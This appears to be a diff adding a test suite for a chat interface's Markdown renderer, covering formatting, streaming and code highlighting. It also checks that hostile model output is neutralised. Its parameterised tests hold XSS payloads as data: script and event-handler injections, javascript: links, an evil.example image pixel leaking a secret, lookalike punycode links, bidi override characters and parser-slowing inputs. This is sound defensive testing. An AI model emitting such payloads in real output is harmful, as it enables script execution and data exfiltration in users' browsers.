@@ -1,0 +1,144 @@
+import fc from 'fast-check';
+import { act } from 'react';
+import { createRoot, type Root } from 'react-dom/client';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { english } from '#ui/language/messages.ts';
+import { Markdown } from '#ui/parts/markdown/markdown.tsx';
+import { safeAddress } from '#ui/parts/markdown/safe-address.ts';
+
+Reflect.set(globalThis, 'IS_REACT_ACT_ENVIRONMENT', true);
+
+let container: HTMLElement;
+let root: Root;
+beforeEach(() => {
+  container = document.createElement('div');
+  document.body.append(container);
+  root = createRoot(container);
+});
+afterEach(async () => {
+  await act(() => root.unmount());
+  container.remove();
+});
+
+async function show(text: string, isLive = false): Promise<HTMLElement> {
+  await act(() => root.render(<Markdown text={text} isLive={isLive} labels={english.markdown} />));
+  return container;
+}
+
+describe('markdown', () => {
+  test('shows what models write: headings, lists, tables, code, quotes', async () => {
+    const element = await show(
+      '# Title\n\nSome **bold** and *soft* `code`.\n\n1. one\n2. two\n   - inner\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet x = 1;\nx += 1;\n```\n\n> quoted\n',
+    );
+    expect(element.querySelector('h3')?.textContent).toBe('Title');
+    expect(element.querySelector('strong')?.textContent).toBe('bold');
+    expect(element.querySelectorAll('ol > li').length).toBe(2);
+    expect(element.querySelector('ol ul > li')?.textContent).toBe('inner');
+    expect(element.querySelector('td.align-right')?.textContent).toBe('2');
+    expect(element.querySelectorAll('pre .line').length).toBe(2);
+    expect(element.querySelector('blockquote')?.textContent).toBe('quoted');
+  });
+
+  test('bold that ends in Chinese punctuation is bold', async () => {
+    expect((await show('**注意：**请先备份。')).querySelector('strong')?.textContent).toBe('注意：');
+  });
+
+  test('however a text is cut while it streams, in the end it shows the same as the whole', async () => {
+    const text = '# A\n\nOne **two** three\n\n- a\n- b\n- c\n- d\n\n```py\nprint(1)\n```\n\n| x | y |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nend $x^2$ *of* it';
+    const whole = (await show(text)).innerHTML;
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.nat(text.length), { maxLength: 12 }), async (places) => {
+        await act(() => root.unmount());
+        root = createRoot(container);
+        for (const place of places.toSorted((left, right) => left - right)) await show(text.slice(0, place), true);
+        await show(text, true);
+        expect((await show(text)).textContent).toBe(new DOMParser().parseFromString(whole, 'text/html').body.textContent);
+      }),
+      { numRuns: 25 },
+    );
+  });
+
+  test('blocks that are finished keep their elements while more comes', async () => {
+    const first = (await show('One.\n\nTwo.\n\nThree', true)).querySelector('p');
+    const later = (await show('One.\n\nTwo.\n\nThree and more.\n\nFour', true)).querySelector('p');
+    expect(later).toBe(first);
+  });
+});
+
+describe('nothing a model writes can run or leave the page', () => {
+  test.each([
+    '<script>window.hit = 1</script>',
+    '<img src=x onerror="window.hit = 1">',
+    '<iframe src="https://evil.example/"></iframe>',
+    '[click](javascript:window.hit=1)',
+    '![x](https://evil.example/pixel.png?secret=1)',
+    '[x](data:text/html,<script>window.hit=1</script>)',
+    '<style>body { display: none }</style>',
+    '<svg onload="window.hit = 1">',
+    '[a]: javascript:window.hit=1\n\n[a]',
+    '<https://evil.example/auto>',
+    '$\\href{javascript:window.hit=1}{x}$',
+    '$$\\includegraphics{https://evil.example/pixel.png}$$',
+  ])('%s', async (text) => {
+    const before = performance.getEntriesByType('resource').length;
+    const element = await show(text);
+    await new Promise((resolve) => {
+      setTimeout(resolve, 150);
+    });
+    expect(element.querySelectorAll('script, img, iframe, style, svg, object, embed, link, form').length).toBe(0);
+    const hosts = performance
+      .getEntriesByType('resource')
+      .slice(before)
+      .map(({ name }) => new URL(name).host);
+    expect(hosts.filter((host) => host !== window.location.host)).toEqual([]);
+    expect(Reflect.get(window, 'hit')).toBeUndefined();
+    for (const link of element.querySelectorAll('a')) {
+      expect(['http:', 'https:', 'mailto:']).toContain(link.protocol);
+      expect(link.rel).toContain('noopener');
+      expect(link.target).toBe('_blank');
+    }
+  });
+
+  test('a link shows the true host and asks before the first visit', async () => {
+    const element = await show('[bank](https://user:word@xn--bnk-eqa.example/a)');
+    const link = element.querySelector('a');
+    expect(link?.title).toBe('xn--bnk-eqa.example');
+    expect(link?.href).toBe('https://xn--bnk-eqa.example/a');
+    await act(() => link?.click());
+    expect(document.querySelector('dialog[open]')?.textContent).toContain('xn--bnk-eqa.example');
+  });
+
+  test('no link of a model leads into the app', () => {
+    expect(safeAddress(`${window.location.origin}/#/settings`, window.location.origin)).toBeNull();
+    expect(safeAddress('#/settings', window.location.origin)).toBeNull();
+  });
+
+  test('characters that turn code around are shown by their number', async () => {
+    const element = await show('```js\nif (a\u202e) {}\n```');
+    expect(element.querySelector('.hidden-character')?.textContent).toBe('U+202E');
+  });
+
+  test('text that is made to be slow is still shown within two seconds', async () => {
+    const hostile = ['> '.repeat(4000), '[a]('.repeat(8000), '*a _b '.repeat(8000), '`'.repeat(20_000), '| '.repeat(8000), `a${'\u0301'.repeat(5000)}`];
+    for (const text of hostile) {
+      const began = performance.now();
+      const element = await show(text);
+      expect(element.textContent?.length).toBeGreaterThan(0);
+      expect(performance.now() - began).toBeLessThan(2000);
+    }
+  });
+});
+
+describe('code and formulas', () => {
+  test('finished code is coloured, and says the same as before', async () => {
+    const element = await show('```js\nconst a = "b"; // c\n```');
+    await expect.poll(() => element.querySelector('.code-keyword')?.textContent, { timeout: 5000 }).toBe('const');
+    expect(element.querySelector('pre')?.textContent?.trim()).toBe('const a = "b"; // c');
+  });
+
+  test('a formula becomes MathML; a price stays a price', async () => {
+    const element = await show('$x^2$ costs $5 or $10');
+    await expect.poll(() => element.querySelectorAll('math').length, { timeout: 5000 }).toBe(1);
+    expect(element.textContent).toContain('costs $5 or $10');
+  });
+});
